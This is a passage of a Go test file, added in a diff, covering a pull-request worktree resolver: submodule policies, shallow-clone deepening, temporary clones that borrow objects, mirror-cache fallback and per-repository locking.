+	data, err := os.ReadFile(filepath.Join(worktree, ".env"))
+	if err != nil || string(data) != "worktree\n" {
+		t.Fatalf("expected worktree .env to be kept, got %q (err=%v)", data, err)
+	}
+}
+
+func TestResolveAppliesSubmodulePolicy(t *testing.T) {
+	fake, cfg, _ := newProjectFixture(t, "submodules: shallow\n")
+	cfg.TrustedRepos = []string{"octo/repo"}
+	cfg.Submodules = config.Submodules{Jobs: 4}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	if _, err := resolver.Resolve(context.Background(), cfg, pr, Options{}); err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	want := git.SubmoduleOptions{Recursive: true, Depth: 1, Jobs: 4}
+	if len(fake.submoduleOptions) != 1 || !reflect.DeepEqual(fake.submoduleOptions[0], want) {
+		t.Fatalf("expected %+v, got %+v", want, fake.submoduleOptions)
+	}
+
+	// The user's per-repository setting wins over .prt.yaml.
+	fake, cfg, _ = newProjectFixture(t, "submodules: shallow\n")
+	cfg.TrustedRepos = []string{"octo/repo"}
+	cfg.RepoSubmodules = map[string]config.Submodules{"octo/*": {Policy: config.SubmodulesList, Paths: []string{"vendor/lib"}}}
+	resolver = NewResolver(fake, ResolverOptions{})
+	if _, err := resolver.Resolve(context.Background(), cfg, pr, Options{}); err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	want = git.SubmoduleOptions{Recursive: true, Paths: []string{"vendor/lib"}}
+	if len(fake.submoduleOptions) != 1 || !reflect.DeepEqual(fake.submoduleOptions[0], want) {
+		t.Fatalf("expected %+v, got %+v", want, fake.submoduleOptions)
+	}
+
+	fake, cfg, _ = newProjectFixture(t, "submodules: recursive\n")
+	resolver = NewResolver(fake, ResolverOptions{})
+	if _, err := resolver.Resolve(context.Background(), cfg, pr, Options{NoSubmodules: true}); err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.submoduleUpdates) != 0 {
+		t.Fatalf("expected --no-submodules to skip submodules, got %v", fake.submoduleUpdates)
+	}
+}
+
+func TestResolveReferencesMainCheckoutSubmodules(t *testing.T) {
+	fake, cfg, repoDir := newProjectFixture(t, "")
+	modulesDir := filepath.Join(repoDir, ".git", "modules")
+	if err := os.MkdirAll(filepath.Join(modulesDir, "vendor", "lib"), 0o755); err != nil {
+		t.Fatalf("mkdir modules: %v", err)
+	}
+	worktreePath := filepath.Join(repoDir+"-worktrees", "pr-15-feature")
+	fake.submodules[worktreePath] = []git.Submodule{
+		{Name: "vendor/lib", Path: "vendor/lib"},
+		{Name: "docs", Path: "third_party/docs"},
+	}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if result.Path != worktreePath {
+		t.Fatalf("expected worktree %s, got %s", worktreePath, result.Path)
+	}
+	want := []git.SubmoduleOptions{
+		{Recursive: true, Reference: filepath.Join(modulesDir, "vendor", "lib"), Paths: []string{"vendor/lib"}},
+		{Recursive: true, Paths: []string{"third_party/docs"}},
+	}
+	if !reflect.DeepEqual(fake.submoduleOptions, want) {
+		t.Fatalf("expected %+v, got %+v", want, fake.submoduleOptions)
+	}
+}
+
+func TestResolveShallowCloneDeepensToMergeBase(t *testing.T) {
+	projectsDir := t.TempDir()
+	cfg := config.Config{
+		ProjectsDir: projectsDir,
+		TempDir:     t.TempDir(),
+		Clone:       config.Clone{Depth: 1, Filter: "blob:none", SingleBranch: true},
+	}
+	pr := makePR("octo", "repo", "fork", "repo", "feature", 15)
+	repoDir := filepath.Join(projectsDir, "repo")
+
+	fake := newFakeGit()
+	resolver := NewResolver(fake, ResolverOptions{})
+	if _, err := resolver.Resolve(context.Background(), cfg, pr, Options{}); err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+
+	if len(fake.clones) != 1 || fake.clones[0] != (git.CloneOptions{Depth: 1, Filter: "blob:none", SingleBranch: true}) {
+		t.Fatalf("unexpected clone options: %+v", fake.clones)
+	}
+	if len(fake.fetches) != 0 || len(fake.branchFetches) != 0 {
+		t.Fatalf("expected only shallow fetches, got %+v and %+v", fake.fetches, fake.branchFetches)
+	}
+
+	baseRefspec := "+refs/heads/main:refs/remotes/origin/main"
+	headRefspec := "+refs/heads/feature:refs/remotes/prt/fork/repo/feature"
+	want := []shallowFetchCall{
+		{repoDir, "origin", baseRefspec, git.ShallowFetch{Depth: 1}},
+		{repoDir, "prt/fork/repo", headRefspec, git.ShallowFetch{Depth: 1}},
+	}
+	// No merge-base is ever found, so each round deepens further before the
+	// clone is unshallowed; --unshallow runs once the repository is complete.
+	for step := deepenStep; step < deepenStep<<maxDeepenRounds; step *= 2 {
+		want = append(want,
+			shallowFetchCall{repoDir, "origin", baseRefspec, git.ShallowFetch{Deepen: step}},
+			shallowFetchCall{repoDir, "prt/fork/repo", headRefspec, git.ShallowFetch{Deepen: step}},
+		)
+	}
+	want = append(want, shallowFetchCall{repoDir, "origin", baseRefspec, git.ShallowFetch{Unshallow: true}})
+	if !reflect.DeepEqual(fake.shallowFetches, want) {
+		t.Fatalf("unexpected shallow fetches:\n got %+v\nwant %+v", fake.shallowFetches, want)
+	}
+}
+
+func TestResolveShallowCloneStopsAtMergeBase(t *testing.T) {
+	projectsDir := t.TempDir()
+	cfg := config.Config{ProjectsDir: projectsDir, TempDir: t.TempDir()}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+	repoDir := filepath.Join(projectsDir, "repo")
+
+	fake := newFakeGit()
+	fake.repos[repoDir] = &fakeRepo{
+		origin:    "https://github.com/octo/repo.git",
+		remotes:   map[string]string{"origin": "https://github.com/octo/repo.git"},
+		worktrees: map[string]string{},
+	}
+	fake.shallowRepos[repoDir] = true
+	fake.revs["merge-base:origin/main...origin/feature"] = "abc123"
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	if _, err := resolver.Resolve(context.Background(), cfg, pr, Options{}); err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.shallowFetches) != 2 {
+		t.Fatalf("expected only the base and PR fetches, got %+v", fake.shallowFetches)
+	}
+	for _, call := range fake.shallowFetches {
+		if call.shallow != (git.ShallowFetch{Depth: defaultShallowDepth}) {
+			t.Fatalf("expected fetches limited to %d commits, got %+v", defaultShallowDepth, call)
+		}
+	}
+}
+
+func TestResolveTempBorrowsObjectsFromPersistentClone(t *testing.T) {
+	projectsDir := t.TempDir()
+	cfg := config.Config{ProjectsDir: projectsDir, TempDir: t.TempDir()}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+
+	fake := newFakeGit()
+	resolver := NewResolver(fake, ResolverOptions{})
+	if _, err := resolver.Resolve(context.Background(), cfg, pr, Options{Temp: true}); err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.clones) != 1 || fake.clones[0].Reference != "" {
+		t.Fatalf("expected a plain clone without a persistent clone, got %+v", fake.clones)
+	}
+
+	repoDir := filepath.Join(projectsDir, "repo")
+	if err := os.MkdirAll(repoDir, 0o755); err != nil {
+		t.Fatalf("mkdir repo: %v", err)
+	}
+	fake = newFakeGit()
+	fake.repos[repoDir] = &fakeRepo{
+		origin:    "https://github.com/octo/repo.git",
+		remotes:   map[string]string{"origin": "https://github.com/octo/repo.git"},
+		worktrees: map[string]string{},
+	}
+	cfg.TempDir = t.TempDir()
+	resolver = NewResolver(fake, ResolverOptions{})
+	if _, err := resolver.Resolve(context.Background(), cfg, pr, Options{Temp: true}); err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.clones) != 1 || fake.clones[0].Reference != repoDir || fake.clones[0].Dissociate {
+		t.Fatalf("expected the bare clone to share objects with %s, got %+v", repoDir, fake.clones)
+	}
+}
+
+func TestResolveTempRepairsMissingReference(t *testing.T) {
+	tempDir := t.TempDir()
+	cfg := config.Config{ProjectsDir: t.TempDir(), TempDir: tempDir}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+	bareDir := filepath.Join(tempDir, "octo-repo.git")
+	kept := t.TempDir()
+	if err := os.MkdirAll(filepath.Dir(alternatesPath(bareDir)), 0o755); err != nil {
+		t.Fatalf("mkdir objects: %v", err)
+	}
+	if err := os.WriteFile(alternatesPath(bareDir), []byte("/moved/repo/.git/objects\n"+kept+"\n"), 0o644); err != nil {
+		t.Fatalf("write alternates: %v", err)
+	}
+
+	fake := newFakeGit()
+	fake.repos[bareDir] = &fakeRepo{
+		origin:    "https://github.com/octo/repo.git",
+		remotes:   map[string]string{"origin": "https://github.com/octo/repo.git"},
+		worktrees: map[string]string{},
+	}
+	resolver := NewResolver(fake, ResolverOptions{})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{Temp: true})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+
+	if len(fake.refetches) != 1 || fake.refetches[0] != bareDir {
+		t.Fatalf("expected objects to be fetched again, got %v", fake.refetches)
+	}
+	data, err := os.ReadFile(alternatesPath(bareDir))
+	if err != nil || string(data) != kept+"\n" {
+		t.Fatalf("expected only the existing alternate to remain (err=%v, data=%q)", err, data)
+	}
+	if !slices.ContainsFunc(result.Warnings, func(w string) bool { return strings.Contains(w, "/moved/repo/.git/objects is gone") }) {
+		t.Fatalf("expected a warning about the missing reference, got %v", result.Warnings)
+	}
+
+	// A healthy bare repository is left alone.
+	fake.refetches = nil
+	if _, err := resolver.Resolve(context.Background(), cfg, pr, Options{Temp: true}); err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.refetches) != 0 {
+		t.Fatalf("expected no refetch, got %v", fake.refetches)
+	}
+}
+
+func TestCleanTempSkipsWorktreeWithMissingReference(t *testing.T) {
+	tempDir := t.TempDir()
+	bareDir := filepath.Join(tempDir, "octo-repo.git")
+	worktreePath := filepath.Join(tempDir, "octo-repo-pr-1-feature")
+	if err := os.MkdirAll(worktreePath, 0o755); err != nil {
+		t.Fatalf("mkdir worktree: %v", err)
+	}
+	if err := os.MkdirAll(filepath.Dir(alternatesPath(bareDir)), 0o755); err != nil {
+		t.Fatalf("mkdir objects: %v", err)
+	}
+	if err := os.WriteFile(alternatesPath(bareDir), []byte("/moved/repo/.git/objects\n"), 0o644); err != nil {
+		t.Fatalf("write alternates: %v", err)
+	}
+	setTempWorktreeMarkerTime(t, tempDir, worktreePath, time.Now().Add(-48*time.Hour))
+
+	fake := newFakeGit()
+	fake.dirtyErr = errors.New("fatal: bad object HEAD")
+	fake.repos[bareDir] = &fakeRepo{origin: "https://github.com/octo/repo.git", remotes: map[string]string{"origin": "https://github.com/octo/repo.git"}, worktrees: map[string]string{
+		"pr/1/feature": worktreePath,
+	}}
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	results, err := resolver.CleanTemp(context.Background(), tempDir, 24*time.Hour, false, false)
+	if err != nil {
+		t.Fatalf("clean temp: %v", err)
+	}
+	if len(results) != 1 || results[0].Action != CleanActionSkipped || !strings.Contains(results[0].Reason, "reference repository") {
+		t.Fatalf("expected the worktree to be skipped, got %+v", results)
+	}
+	if !pathExists(bareDir) {
+		t.Fatalf("expected the bare repository to remain")
+	}
+}
+
+type fakeMirrorCache struct {
+	path    string
+	err     error
+	ensured []string
+}
+
+func (c *fakeMirrorCache) Ensure(_ context.Context, repo github.Repository) (string, error) {
+	c.ensured = append(c.ensured, repo.Owner+"/"+repo.Name)
+	return c.path, c.err
+}
+
+func TestResolveClonesFromMirrorCache(t *testing.T) {
+	cfg := config.Config{ProjectsDir: t.TempDir(), TempDir: t.TempDir()}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 16)
+	cache := &fakeMirrorCache{path: "/cache/github.com/octo/repo.git"}
+
+	for _, temp := range []bool{false, true} {
+		fake := newFakeGit()
+		resolver := NewResolver(fake, ResolverOptions{Cache: cache})
+		if _, err := resolver.Resolve(context.Background(), cfg, pr, Options{Temp: temp}); err != nil {
+			t.Fatalf("resolve (temp=%v): %v", temp, err)
+		}
+		want := git.CloneOptions{Reference: cache.path, Dissociate: true}
+		if len(fake.clones) != 1 || fake.clones[0] != want {
+			t.Fatalf("expected a clone from the mirror (temp=%v), got %+v", temp, fake.clones)
+		}
+
+		// Existing clones do not touch the cache.
+		cache.ensured = nil
+		if _, err := resolver.Resolve(context.Background(), cfg, pr, Options{Temp: temp}); err != nil {
+			t.Fatalf("resolve again (temp=%v): %v", temp, err)
+		}
+		if len(cache.ensured) != 0 {
+			t.Fatalf("expected no mirror update for an existing clone, got %v", cache.ensured)
+		}
+	}
+}
+
+func TestResolveClonesFromNetworkWhenMirrorFails(t *testing.T) {
+	cfg := config.Config{ProjectsDir: t.TempDir(), TempDir: t.TempDir()}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 16)
+	cache := &fakeMirrorCache{err: errors.New("offline")}
+
+	fake := newFakeGit()
+	resolver := NewResolver(fake, ResolverOptions{Cache: cache})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.clones) != 1 || fake.clones[0] != (git.CloneOptions{}) {
+		t.Fatalf("expected a plain clone, got %+v", fake.clones)
+	}
+	if !slices.ContainsFunc(result.Warnings, func(w string) bool { return strings.Contains(w, "offline") }) {
+		t.Fatalf("expected a mirror warning, got %v", result.Warnings)
+	}
+}
+
+func TestRepoLocksSerializeSameRepository(t *testing.T) {
+	locks := &keyedMutex{locks: map[string]*sync.Mutex{}}
+	unlock := locks.lock("/projects/repo")
+
+	acquired := make(chan struct{})
+	go func() {
+		release := locks.lock("/projects/repo/")
+		close(acquired)
+		release()
+	}()
+
+	// Other repositories are not blocked.
+	locks.lock("/projects/other")()
+
+	select {
+	case <-acquired:
+		t.Fatalf("expected the second lock on the same repository to wait")
+	case <-time.After(20 * time.Millisecond):
+	}
+	unlock()
+	select {
+	case <-acquired:
+	case <-time.After(time.Second):
+		t.Fatalf("expected the second lock once the first was released")
+	}
+}